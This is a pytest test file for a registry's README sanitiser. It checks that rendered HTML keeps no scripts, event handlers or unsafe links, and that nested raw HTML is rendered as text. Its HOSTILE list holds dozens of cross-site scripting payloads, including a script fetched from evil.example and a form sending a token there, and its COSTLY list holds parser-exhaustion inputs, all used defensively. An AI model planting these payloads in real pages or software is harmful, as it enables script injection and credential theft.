"""The README sanitiser against hostile shapes: whatever a repository's README holds, what the
registry serves runs no script, carries no event handler, and links nowhere but http(s), mailto
and the page itself."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from gitreg.pages.links import RepositoryLinks
from gitreg.pages.readme import render_readme, sanitise

GITHUB = RepositoryLinks("https://github.com/acme/infra", "a" * 40, "modules/vpc")

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://example.com" onclick="alert(1)" onmouseover="alert(1)">x</a>',
    '<a href="https://example.com" style="position:fixed;inset:0">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="token"><button>go</button></form>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<div onmouseenter="alert(1)">hover</div>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<body onload="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    '<p id="main">steals the page\'s anchor</p>',
    '<p class="problems">looks like ours</p>',
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
]


_DANGEROUS = {"script", "iframe", "object", "embed", "style", "link", "meta", "base", "form"}
_DANGEROUS |= {"input", "textarea", "button", "svg", "math", "video", "audio", "source", "body"}


class _Elements(HTMLParser):
    """What a browser would make of the HTML: its elements and their attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _DANGEROUS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "class", "id", "srcdoc", "action"):
                self.found.append(f"{tag}[{name}]")
            if name in ("href", "src") and not re.match(r"(https?:|mailto:|#)", value or "", re.I):
                self.found.append(f"{tag}[{name}={value!r}]")


def _has_active_content(html: str) -> list[str]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_active_survives(markdown: str) -> None:
    html = render_readme(markdown, GITHUB)
    assert _has_active_content(html) == [], html


@pytest.mark.parametrize("markdown", HOSTILE)
def test_sanitising_is_stable(markdown: str) -> None:
    once = render_readme(markdown, GITHUB)
    assert sanitise(once, GITHUB) == once


def test_code_is_shown_as_text() -> None:
    html = render_readme("```html\n<script>alert(1)</script>\n```")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_what_readmes_need_is_kept() -> None:
    html = render_readme(
        "# Title\n\nSome *text* and `code`.\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n"
        "<details><summary>More</summary>\n\nhidden\n\n</details>\n\n"
        "![badge](https://img.example/badge.svg) [docs](https://example.com/docs) "
        "[mail](mailto:team@example.com) [top](#title)\n"
    )
    for kept in (
        "<h3>Title</h3>",
        "<em>text</em>",
        "<code>code</code>",
        "<table>",
        "<details>",
        '<img src="https://img.example/badge.svg" alt="badge">',
        'href="https://example.com/docs"',
        'href="mailto:team@example.com"',
        'href="#title"',
    ):
        assert kept in html, (kept, html)
    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize(("level", "shown"), [(1, 3), (2, 4), (3, 5), (4, 6), (5, 6), (6, 6)])
def test_headings_sit_under_the_pages_own(level: int, shown: int) -> None:
    assert render_readme("#" * level + " Heading") == f"<h{shown}>Heading</h{shown}>\n"


def test_images_over_plain_http_are_dropped() -> None:
    html = render_readme("![x](http://img.example/x.png)")
    assert "src=" not in html and 'alt="x"' in html


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        (
            "[ex](examples/basic)",
            f"https://github.com/acme/infra/blob/{'a' * 40}/modules/vpc/examples/basic",
        ),
        ("[root](../../README.md)", f"https://github.com/acme/infra/blob/{'a' * 40}/README.md"),
        (
            "[part](docs/x.md#usage)",
            f"https://github.com/acme/infra/blob/{'a' * 40}/modules/vpc/docs/x.md#usage",
        ),
        ("![d](img/d.png)", f"https://github.com/acme/infra/raw/{'a' * 40}/modules/vpc/img/d.png"),
    ],
)
def test_relative_links_point_into_the_repository(markdown: str, expected: str) -> None:
    assert f'"{expected}"' in render_readme(markdown, GITHUB)


def test_gitlab_spells_its_paths_its_own_way() -> None:
    gitlab = RepositoryLinks("https://gitlab.example.com/acme/infra", "b" * 40, "")
    assert f'"https://gitlab.example.com/acme/infra/-/blob/{"b" * 40}/x.md"' in render_readme(
        "[x](x.md)", gitlab
    )


@pytest.mark.parametrize(
    "markdown", ["[out](../../../etc/passwd)", "[abs](/etc/passwd)", "[x](x.md)"]
)
def test_relative_links_without_a_known_forge_or_leaving_the_repository_are_dropped(
    markdown: str,
) -> None:
    unknown = RepositoryLinks("https://git.example.com/acme/infra", "c" * 40, "modules/vpc")
    for links in (unknown, GITHUB, None):
        html = render_readme(markdown, links)
        if links is GITHUB and markdown == "[x](x.md)":
            continue
        assert "href" not in html, (links, html)


# Shapes whose raw HTML costs an HTML parser more than a linear pass: nesting (each element
# looked up through its ancestors) and formatting elements left open (reopened in every
# paragraph after, so the page grows with the square of the README).
COSTLY = {
    "nested blocks": "<div>" * 20_000,
    "nested formatting": "<b>" * 20_000,
    "formatting left open, paragraph after paragraph": "".join(
        f"<p><b id={i}>x</p>" for i in range(20_000)
    ),
    "nested tables": "<table><tr><td>" * 10_000,
    "nested links": '<a href="https://example.com">' * 20_000,
}


@pytest.mark.parametrize("readme", COSTLY.values(), ids=COSTLY.keys())
def test_costly_raw_html_is_shown_as_text_and_the_page_grows_with_the_readme(
    readme: str,
) -> None:
    html = render_readme(readme)
    assert "&lt;" in html  # shown as text, not parsed as elements
    assert len(html) < 4 * len(readme)


def test_raw_html_as_readmes_use_it_is_kept() -> None:
    readme = (
        '<p align="center"><img src="https://example.com/logo.png" alt="logo"><br>\n'
        "<b>bold</b> <em>and</em> <code>code</code></p>\n\n"
        "<details><summary>More</summary>\n\n"
        + "<div>" * 20
        + "deep"
        + "</div>" * 20
        + "\n\n</details>\n\n"
        + "".join(f"<p><b>{i}</b></p>\n" for i in range(500))
    )
    html = render_readme(readme)
    assert "&lt;" not in html
    assert "<details>" in html and "<b>bold</b>" in html and html.count("<div>") == 20
